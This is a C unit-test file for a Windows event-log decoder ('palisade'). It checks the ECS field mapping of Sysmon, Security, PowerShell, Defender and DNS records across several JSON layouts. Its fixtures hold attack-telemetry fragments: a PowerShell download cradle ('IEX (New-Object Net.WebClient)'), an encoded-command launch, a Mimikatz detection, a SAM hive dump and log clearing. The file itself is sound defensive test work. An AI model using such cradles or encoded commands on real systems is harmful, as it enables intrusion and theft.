    CHECK_STR(S("event.module"), "system");
    decode_record(4104, 2);
    CHECK_INT(EV.kind, PK_PROCESS);
    CHECK_STR(S("powershell.file.script_block_text"), "IEX (New-Object Net.WebClient)");
    CHECK_STR(S("powershell.sequence"), "1");
    CHECK_STR(S("winlog.event_data.Path"), "C:\\Users\\Public\\x.ps1");
    CHECK_STR(S("event.type"), "[info]");
}

/* Values and conversions the layouts write differently. */
static void test_conversions(void)
{
    /* evtx_dump's typed values and an EventID with qualifiers */
    CHECK_INT(decode("{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Service Control Manager\"}},"
                     "\"EventID\":{\"#attributes\":{\"Qualifiers\":16384},\"#text\":7045},\"Channel\":\"System\","
                     "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-03-12T10:07:00.000000Z\"}},"
                     "\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},"
                     "\"EventData\":{\"ServiceName\":\"s\",\"ServiceType\":16,\"ImagePath\":\"x.exe\"}}}"), 0);
    CHECK_STR(ERR, "");
    CHECK_STR(S("service.type"), "16");   /* a number in a text field is its text */
    CHECK_STR(S("timestamp"), "2024-03-12T10:07:00.000000Z");
    CHECK_STR(S("user.id"), "S-1-5-18");
    /* NXLog's EventTime (flat): the event's time when it says its zone;
       without one it is the collector's local time, and not read; a
       Sysmon record's UtcTime comes first */
#define NX_4625(t) "{\"EventTime\":\"" t "\",\"Channel\":\"Security\",\"SourceName\":\"Microsoft-Windows-Security-Auditing\"," \
                   "\"EventID\":4625,\"Hostname\":\"W\",\"TargetUserName\":\"a\",\"IpAddress\":\"10.0.0.1\"}"
    static const char *const nx[][2] = {{"2024-03-12T10:05:00.123456Z", "2024-03-12T10:05:00.123456Z"},
                                        {"2024-03-12T12:05:00+02:00", "2024-03-12T12:05:00+02:00"},
                                        {"2024-03-12 10:05:00+0100", "2024-03-12 10:05:00+0100"},
                                        {"2024-03-12 10:05:00", "(undef)"},
                                        {"2024-03-12 10:05:00.123456", "(undef)"},
                                        {"yesterday", "(undef)"}};
    char nxline[512];
    for (size_t i = 0; i < sizeof nx / sizeof nx[0]; i++) {
        snprintf(nxline, sizeof nxline, NX_4625("%s"), nx[i][0]);
        CHECK_INT(decode(nxline), 0);
        CHECK_STR(S("timestamp"), nx[i][1]);
    }
    CHECK_INT(decode("{\"EventTime\":\"2024-03-12T11:00:00Z\",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                     "\"EventID\":1,\"UtcTime\":\"2024-03-12 10:05:01.250\",\"Image\":\"C:\\\\a.exe\"}"), 0);
    CHECK_STR(S("timestamp"), "2024-03-12T10:05:01.250Z");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},"
                     "\"EventData\":{\"Image\":\"C:\\\\a.exe\",\"Initiated\":true,\"DestinationPort\":443,"
                     "\"DestinationIp\":\"1.2.3.4\",\"ProcessId\":12}}}"), 0);
    CHECK_STR(S("network.direction"), "outbound");
    CHECK_STR(S("destination.port"), "443");
    CHECK_STR(S("process.pid"), "12");
    /* QWORD, binary and string registry data */
    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"HKLM\\\\x\\\\v\",\"Details\":\"QWORD (0x00000001-0x00000002)\"}"), 0);
    CHECK_STR(S("registry.data.strings"), "[4294967298]");
    CHECK_STR(S("registry.data.type"), "REG_QWORD");
    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"HKLM\\\\x\\\\v\",\"Details\":\"Binary Data\"}"), 0);
    CHECK_STR(S("registry.data.type"), "REG_BINARY");
    CHECK_INT(decode("{\"EventID\":13,\"TargetObject\":\"\\\\REGISTRY\\\\MACHINE\\\\x\",\"Details\":\"DWORD (0x1)\"}"), 0);
    CHECK_STR(S("registry.data.strings"), "[DWORD (0x1)]");   /* not Sysmon's 8-digit form: as written */
    CHECK_STR(S("registry.data.type"), "REG_SZ");
    CHECK_STR(S("registry.hive"), "(undef)");                  /* not a hive's name */
    CHECK_STR(S("registry.value"), "x");
    CHECK_STR(S("event.action"), "modification");              /* no EventType: the table's */
    /* Security pids: hex, decimal; a bad one is reported and undefined */
    CHECK_INT(decode("{\"EventID\":4689,\"Channel\":\"Security\",\"ProcessId\":\"1234\",\"ProcessName\":\"C:\\\\a.exe\"}"), 0);
    CHECK_STR(S("process.pid"), "1234");
    CHECK_INT(decode("{\"EventID\":4689,\"Channel\":\"Security\",\"ProcessId\":\"0xZZ\",\"ProcessName\":\"C:\\\\a.exe\"}"), 0);
    CHECK_STR(S("process.pid"), "(undef)");
    CHECK_STR(ERR, "ProcessId: expected a number, got a string");
    /* WFP: rendered direction names, other protocols */
    CHECK_INT(decode("{\"EventID\":5156,\"Channel\":\"Security\",\"Direction\":\"Inbound\",\"Protocol\":\"1\","
                     "\"Application\":\"\\\\device\\\\harddiskvolume2\\\\windows\\\\system32\\\\svchost.exe\"}"), 0);
    CHECK_STR(S("network.direction"), "inbound");
    CHECK_STR(S("network.transport"), "icmp");
    CHECK_STR(S("process.name"), "svchost.exe");
    CHECK_INT(decode("{\"EventID\":5156,\"Channel\":\"Security\",\"Protocol\":47,\"DestAddress\":\"10.0.0.1\"}"), 0);
    CHECK_STR(S("network.transport"), "47");
    /* a user without a domain */
    CHECK_INT(decode("{\"EventID\":1,\"Image\":\"C:\\\\a.exe\",\"User\":\"app\"}"), 0);
    CHECK_STR(S("user.name"), "app");
    CHECK_STR(S("user.domain"), "(undef)");
    /* NXLog's severity is not a registry EventType; a Sysmon one is */
    CHECK_INT(decode("{\"EventID\":12,\"EventType\":\"INFO\",\"TargetObject\":\"HKLM\\\\x\"}"), 0);
    CHECK_STR(S("winlog.event_data.EventType"), "(undef)");
    CHECK_STR(S("event.action"), "modification");
    CHECK_INT(decode("{\"EventID\":12,\"EventType\":\"DeleteValue\",\"TargetObject\":\"HKLM\\\\x\"}"), 0);
    CHECK_STR(S("event.action"), "deletion");
    /* the shipper's ECS fields win, its event.action does not */
    CHECK_INT(decode("{\"event\":{\"action\":\"RegistryEvent (Value Set)\",\"category\":[\"registry\"]},"
                     "\"registry\":{\"path\":\"HKLM\\\\from-ecs\"},\"winlog\":{\"channel\":"
                     "\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":13,\"event_data\":{\"TargetObject\":"
                     "\"HKLM\\\\raw\",\"EventType\":\"SetValue\"}}}"), 0);
    CHECK_STR(S("registry.path"), "HKLM\\from-ecs");
    CHECK_STR(S("event.action"), "modification");
    /* Winlogbeat's user id */
    CHECK_INT(decode("{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":4104,"
                     "\"user\":{\"identifier\":\"S-1-5-21-9\"},\"event_data\":{\"ScriptBlockText\":\"x\"}}}"), 0);
    CHECK_STR(S("user.id"), "S-1-5-21-9");
    CHECK_STR(S("event.module"), "powershell");
}

/* Security 1102 (UserData/LogFileCleared) and the WFP filter records. */
static void test_user_data_and_wfp(void)
{
    for (int l = 0; l < 3; l++) {
        decode_record(1102, l);
        CHECK_INT(RC, 0);
        CHECK_STR(S("event.action"), "audit-log-cleared");
        CHECK_STR(S("winlog.event_data.SubjectUserName"), "Administrator");
        CHECK_STR(S("winlog.event_data.SubjectDomainName"), "CORP");
        CHECK_STR(S("winlog.event_data.SubjectLogonId"), "0x5c7a1");
        CHECK_STR(S("winlog.provider_name"), "Microsoft-Windows-Eventlog");
    }
    decode_record(5447, 2);
    CHECK_STR(S("event.action"), "wfp-filter-changed");
    CHECK_STR(S("winlog.event_data.FilterName"), "Block inbound to C:\\Tools\\agent.exe");
    CHECK_STR(S("winlog.event_data.LayerName"), "ALE Receive/Accept v4 Layer");
    CHECK_STR(S("process.pid"), "1944");
    CHECK_STR(S("user.id"), "S-1-5-19");
    decode_record(5441, 0);
    CHECK_STR(S("event.action"), "wfp-filter-present");
    CHECK_STR(S("winlog.event_data.FilterName"), "Port Scanning Prevention Filter");
    CHECK_STR(S("winlog.event_data.ProviderName"), "Microsoft Corporation");
    CHECK_STR(S("winlog.provider_name"), "Microsoft-Windows-Security-Auditing");
    /* evtx_dump's typed numbers in text fields */
    decode("{\"Event\":{\"System\":{\"EventID\":5441,\"Channel\":\"Security\"},\"EventData\":{\"FilterName\":\"f\","
           "\"FilterId\":67430,\"LayerId\":46}}}");
    CHECK_INT(RC, 0);
    CHECK_STR(S("winlog.event_data.FilterId"), "67430");
    CHECK_STR(S("winlog.event_data.LayerId"), "46");
    /* 1102's values under EventData (a tool that moved them) are read too */
    decode("{\"Event\":{\"System\":{\"EventID\":1102,\"Channel\":\"Security\"},\"EventData\":{\"SubjectUserName\":\"a\"}}}");
    CHECK_INT(RC, 0);
    CHECK_STR(S("winlog.event_data.SubjectUserName"), "a");
}


/* Unnamed Data values in each layout's form, classic PowerShell's lines,
   the level, the new logs' values. */
static void test_unnamed_data(void)
{
    /* evtx_dump: {"#text": [...]}; Winlogbeat: param1..; flat: a list */
    const char *ps400 = "\\tNewEngineState=Available\\r\\n\\tHostName=ConsoleHost\\r\\n\\tHostApplication=powershell.exe -enc AA"
                        "\\r\\n\\tEngineVersion=2.0\\r\\n\\tCommandLine=";
    char line[2048];
    snprintf(line, sizeof line, "{\"Event\":{\"System\":{\"EventID\":400,\"Channel\":\"Windows PowerShell\",\"Level\":4},"
             "\"EventData\":{\"Data\":{\"#text\":[\"Available\",\"None\",\"%s\"]}}}}", ps400);
    CHECK_INT(decode(line), 0);
    CHECK_STR(ERR, "");
    CHECK_STR(S("process.command_line"), "powershell.exe -enc AA");
    CHECK_STR(S("winlog.event_data.HostApplication"), "powershell.exe -enc AA");
    CHECK_STR(S("process.title"), "ConsoleHost");
    CHECK_STR(S("powershell.engine.version"), "2.0");
    CHECK_STR(S("powershell.engine.new_state"), "Available");
    CHECK_STR(S("powershell.command.value"), "(undef)");        /* "CommandLine=" is empty */
    CHECK_STR(S("log.level"), "information");
    CHECK_STR(S("event.type"), "[info]");   /* not a launch: SPEC 15, winevents.c */
    CHECK(strstr(S("winlog.event_data.Data"), "Available\nNone\n\tNewEngineState=Available") != NULL);
    snprintf(line, sizeof line, "{\"winlog\":{\"channel\":\"Windows PowerShell\",\"event_id\":400,\"event_data\":"
             "{\"param1\":\"Available\",\"param2\":\"None\",\"param3\":\"%s\"}},\"log\":{\"level\":\"warning\"}}", ps400);
    CHECK_INT(decode(line), 0);
    CHECK_STR(S("process.command_line"), "powershell.exe -enc AA");
    CHECK(strncmp(S("winlog.event_data.Data"), "Available\nNone\n", 15) == 0);
    CHECK_STR(S("log.level"), "warning");
    snprintf(line, sizeof line, "{\"Channel\":\"Windows PowerShell\",\"EventID\":400,\"Level\":\"Error\",\"Data\":"
             "[\"Available\",\"None\",\"%s\"]}", ps400);
    CHECK_INT(decode(line), 0);
    CHECK_STR(S("winlog.event_data.HostApplication"), "powershell.exe -enc AA");
    CHECK_STR(S("log.level"), "error");
    /* a key only matches at a line's start, before '=' */
    CHECK_INT(decode("{\"Channel\":\"Windows PowerShell\",\"EventID\":800,\"Data\":\"x HostApplication=no\\r\\n"
                     "\\tXHostApplication=no\\r\\n\\tHostApplication = yes \\r\\n\\tHostApplication=second\"}"), 0);
    CHECK_STR(S("winlog.event_data.HostApplication"), "second");   /* not mid-line, not XHost..., not "Host... =" */
    CHECK_INT(decode("{\"Channel\":\"Windows PowerShell\",\"EventID\":800,\"Data\":\"\\tHostApplication=first\\n"
                     "HostApplication=second\"}"), 0);
    CHECK_STR(S("winlog.event_data.HostApplication"), "first");
    /* no Data at all: refused, naming it */
    CHECK_INT(decode("{\"Channel\":\"Windows PowerShell\",\"EventID\":400,\"EventData\":{\"x\":\"y\"}}"), -1);
    CHECK_STR(ERR, "Windows PowerShell EventID 400 record has no event data: EventData holds none of its fields (Data, ...)");
    /* more than 16 values: the first 16, never more */
    char big[4096];
    size_t o = (size_t)snprintf(big, sizeof big, "{\"Channel\":\"Application\",\"EventID\":1,\"Data\":[");
    for (int i = 0; i < 40; i++) o += (size_t)snprintf(big + o, sizeof big - o, "%s\"v%d\"", i ? "," : "", i);
    snprintf(big + o, sizeof big - o, "]}");
    CHECK_INT(decode(big), 0);
    CHECK(strstr(S("winlog.event_data.Data"), "v15") != NULL);
    CHECK(strstr(S("winlog.event_data.Data"), "v16") == NULL);
    /* typed evtx values and empty ones */
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":6004,\"Channel\":\"DNS Server\"},\"EventData\":{\"Data\":"
                     "{\"#text\":[\"198.51.100.9\",7,\"\"]}}}}"), 0);
    CHECK_STR(S("winlog.event_data.Data"), "198.51.100.9\n7\n");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":6004,\"Channel\":\"DNS Server\"},\"EventData\":{\"Data\":\"\"}}}"), -1);
    CHECK(strstr(ERR, "DNS server EventID 6004 record has no event data") != NULL);

    /* the new logs' values */
    decode_record_of("Microsoft-Windows-Windows Defender/Operational", 1116, 2);
    CHECK_INT(EV.kind, PK_FILE);
    CHECK_STR(S("event.category"), "[malware]");
    CHECK_STR(S("winlog.event_data.SourceName"), "AMSI");
    CHECK_STR(S("winlog.event_data.ThreatName"), "Trojan:PowerShell/Mimikatz.A");
    CHECK_STR(S("process.name"), "powershell.exe");
    CHECK_STR(S("event.module"), "windefend");
    decode_record_of("Microsoft-Windows-Windows Defender/Operational", 5007, 1);
    CHECK(strstr(S("winlog.event_data.NewValue"), "SubmitSamplesConsent = 0x0") != NULL);
    decode_record_of("Microsoft-Windows-Bits-Client/Operational", 3, 0);
    CHECK_INT(EV.kind, PK_NETWORK);
    CHECK_STR(S("process.name"), "powershell.exe");
    CHECK_STR(S("process.pid"), "5120");
    decode_record_of("Microsoft-Windows-AppLocker/EXE and DLL", 8003, 0);
    CHECK_INT(RC, 0);
    CHECK_STR(S("winlog.event_data.FullFilePath"), "C:\\Users\\Public\\x.exe");
    CHECK_STR(S("winlog.channel"), "Microsoft-Windows-AppLocker/EXE and DLL");
    decode_record_of("Microsoft-Windows-DNS-Client/Operational", 3008, 2);
    CHECK_INT(EV.kind, PK_DNS);
    CHECK_STR(S("dns.question.name"), "aaa.stage.123456.example.net");
    CHECK_STR(S("dns.resolved_ip"), "[203.0.113.5]");
    decode_record_of("Microsoft-Windows-DNS-Client/Operational", 3020, 2);
    CHECK_STR(S("dns.response_code"), "NXDOMAIN");
    decode_record_of("Microsoft-Windows-Security-Mitigations/KernelMode", 11, 1);
    CHECK_INT(EV.kind, PK_LIBRARY);
    CHECK_STR(S("process.name"), "MpCmdRun.exe");
    decode_record_of("System", 16, 0);
    CHECK_INT(EV.kind, PK_REGISTRY);
    CHECK(strstr(S("winlog.event_data.HiveName"), "SAM-1.dmp") != NULL);
    CHECK_STR(S("winlog.provider_name"), "Microsoft-Windows-Kernel-General");
    decode_record_of("System", 104, 2);
    CHECK_STR(S("event.action"), "log-cleared");
    CHECK_STR(S("winlog.event_data.SubjectUserName"), "Administrator");
    CHECK_STR(S("winlog.event_data.Channel"), "Application");   /* which log was cleared */
    CHECK_STR(S("winlog.event_data.BackupPath"), "C:\\bk\\app.evtx");
    CHECK_STR(S("winlog.channel"), "System");
    decode_record_of("System", 104, 0);
    CHECK_STR(S("winlog.event_data.Channel"), "Application");
    CHECK_STR(S("winlog.channel"), "System");
    decode_record_of("System", 104, 1);   /* flat: the top-level Channel is the record's */
    CHECK_STR(S("winlog.event_data.Channel"), "(undef)");
    CHECK_STR(S("winlog.channel"), "System");
    CHECK_STR(S("winlog.event_data.BackupPath"), "C:\\bk\\app.evtx");
    decode_record_of("Windows PowerShell", 800, 2);
    CHECK(strncmp(S("powershell.command.value"), "Get-ItemProperty -Path 'HKLM:\\SYSTEM", 36) == 0);
    CHECK_STR(S("event.type"), "[info]");
    decode_record_of("Windows PowerShell", 600, 2);
    CHECK_STR(S("powershell.provider.name"), "Registry");
    decode_record_of("Microsoft-Windows-TaskScheduler/Operational", 129, 2);
    CHECK_STR(S("winlog.event_data.Path"), "C:\\Users\\Public\\upd.exe");
    CHECK_STR(S("process.pid"), "6200");
    /* a System EventID of another provider than its row's */
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":16,\"Channel\":\"System\",\"Provider\":{\"#attributes\":"
                     "{\"Name\":\"Microsoft-Windows-Kernel-Power\"}}},\"EventData\":{\"HiveName\":\"x\"}}}"), -1);
    CHECK_STR(ERR, "unsupported System EventID 16 of provider Microsoft-Windows-Kernel-Power (palisade maps that "
                   "EventID of Microsoft-Windows-Kernel-General)");
}

/* What is refused, with its reason. */
static void test_refusals(void)
{
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":4672,\"Channel\":\"Security\"},\"EventData\":{}}}"), -1);
    CHECK_STR(ERR, "unsupported Security EventID 4672 (palisade maps 4688, 4689, 4624, 4625, 4648, 5156, 5140, 5145, 4662, 4697, 4698, 4699, 4700, 4701, 4702, "
                   "4720, 4722, 4724, 4725, 4726, 4728, 4732, 4733, 4738, 4756, 1102, 5441, 5447, 4657, 4663, 4723, 4742, 4776, 6416)");
    /* 1102 keeps its data in UserData: an EventData object is not where it is */
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":1102,\"Channel\":\"Security\"},\"UserData\":"
                     "{\"Other\":{\"SubjectUserName\":\"a\"}}}}"), -1);
    CHECK_STR(ERR, "Security EventID 1102 record has no event data: no Event.UserData.LogFileCleared object with its "
                   "fields (SubjectUserName, SubjectDomainName, SubjectUserSid, ...; the record keeps its data in UserData)");
    CHECK_INT(decode("{\"winlog\":{\"channel\":\"Security\",\"event_id\":1102,\"event_data\":{}}}"), -1);
    CHECK(strstr(ERR, "no winlog.user_data object") != NULL);
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"}}}"), -1);
    CHECK_STR(ERR, "Sysmon EventID 1 record has no event data: no Event.EventData object with its fields "
                   "(CommandLine, CurrentDirectory, ParentProcessGuid, ...)");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},"
                     "\"EventData\":{\"Data\":[\"x\",\"y\"]}}}"), -1);
    CHECK_STR(ERR, "Sysmon EventID 1 record has no event data: Event.EventData holds none of its fields "
                   "(CommandLine, CurrentDirectory, ParentProcessGuid, ...)");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"Channel\":\"Security\"},\"EventData\":{\"x\":1}}}"), -1);
    CHECK_STR(ERR, "not a Windows event record: no EventID (Event.System.EventID)");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":\"4688x\",\"Channel\":\"Security\"}}}"), -1);
    CHECK_STR(ERR, "Event.System.EventID: expected an event number (a whole number 0-65535), got \"4688x\"");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":70000,\"Channel\":\"Security\"}}}"), -1);
    CHECK_STR(ERR, "Event.System.EventID: an event number is 0-65535, got 70000");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":-1,\"Channel\":\"Security\"}}}"), -1);
    CHECK_STR(ERR, "Event.System.EventID: an event number is 0-65535, got -1");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":\"65536\",\"Channel\":\"Security\"}}}"), -1);
    CHECK_STR(ERR, "Event.System.EventID: an event number is 0-65535, got 65536");
    CHECK_INT(decode("{\"Event\":{\"System\":{\"EventID\":4688.5,\"Channel\":\"Security\"}}}"), -1);
    CHECK_STR(ERR, "Event.System.EventID: expected an event number (a whole number 0-65535), got 4688.5");
    CHECK_INT(decode("{\"EventID\":true}"), -1);
    CHECK_STR(ERR, "EventID: expected an event number (a whole number 0-65535), got true");
    CHECK_INT(decode("{\"EventID\":4105}"), -1);
    CHECK_STR(ERR, "unsupported Sysmon EventID 4105 (palisade maps 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, "
                   "17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 29, 255)");
    CHECK_INT(decode("{\"winlog\":{\"channel\":\"System\",\"event_id\":6008,\"event_data\":{}}}"), -1);
    CHECK_STR(ERR, "unsupported System EventID 6008 (palisade maps 7045, 7034, 7036, 7040, 7023, 104, 16, 4100, 42)");
    /* both layouts' keys: not guessed; forced, each reads its own */
    const char *both = "{\"EventID\":1,\"Image\":\"C:\\\\a.exe\",\"Event\":{\"System\":{\"EventID\":3,"
                       "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"},\"EventData\":{\"Image\":\"C:\\\\b.exe\"}}}";
    CHECK_INT(decode(both), -1);
    CHECK_STR(ERR, "line has both Winlogbeat keys (winlog.*, EventID) and an evtx_dump Event object: give "
                   "--input-format sysmon or evtx-json");
    CHECK_INT(decode_fmt(both, PAL_INPUT_SYSMON), 0);
    CHECK_STR(S("process.name"), "a.exe");
    CHECK_INT(decode_fmt(both, PAL_INPUT_EVTX), 0);
    CHECK_STR(S("process.name"), "b.exe");
    CHECK_INT(EV.kind, PK_NETWORK);
    CHECK_INT(pal_input_format_from_name("evtx-json"), PAL_INPUT_EVTX);
    /* an evtx line given as another format, and the reverse */
    CHECK_INT(decode_fmt("{\"EventID\":1,\"Image\":\"C:\\\\a.exe\"}", PAL_INPUT_EVTX), -1);
    CHECK_STR(ERR, "not a Windows event record: no EventID (Event.System.EventID)");
}

/* Pretty-printed documents: every piece gets the same advice. */
static void test_pretty_printed(void)
{
    static const char *const pieces[][2] = {
        {"{", "'{' alone"}, {"  [  ", "'[' alone"}, {"}", "'}' alone"}, {"},", "'}' alone"}, {"]", "']' alone"},
        {"[{", "'[{' alone"}, {"  \"Event\": {", "one member of an object (\"key\": ...)"},
        {"\"EventID\": 4688,", "one member of an object (\"key\": ...)"},
        {"\"Na\\\"me\" : \"x\"", "one member of an object (\"key\": ...)"},
        {"Record 1000", "evtx_dump's record header (\"Record N\")"},
    };
    for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++) {
        CHECK_INT(decode(pieces[i][0]), -1);
        char want[400];
        snprintf(want, sizeof want, "line is %s, not a whole JSON object: this looks like pretty-printed (multi-line) "
                 "JSON, and palisade reads one object per line", pieces[i][1]);
        CHECK_STR(ERR, want);
    }
    /* what is not a piece keeps the plain message */
    CHECK_INT(decode("Record x"), -1);
    CHECK_STR(ERR, "line is not valid JSON at byte 1");
    CHECK_INT(decode("{\"a\":"), -1);
    CHECK_STR(ERR, "line is not valid JSON at byte 5");
    CHECK_INT(decode("\"just a string"), -1);
    CHECK_STR(ERR, "line is not valid JSON at byte 2");
    CHECK_INT(decode("[{\"EventID\":1},{\"EventID\":3}]"), -1);
    CHECK_STR(ERR, "line is an array of objects, not a JSON object: write one event object per line (`jq -c '.[]' "
                   "FILE` does)");
    CHECK_INT(decode("[1,2]"), -1);
    CHECK_STR(ERR, "line is an array, not a JSON object: write one event object per line");
}

int main(void)
{
    pal_arena_init(&A, 0);
    test_three_layouts();
    test_mapping();
    test_conversions();
    test_user_data_and_wfp();
    test_unnamed_data();
    test_refusals();
    test_pretty_printed();
    pal_arena_free(&A);
    return unit_result("test_decode_windows");
}
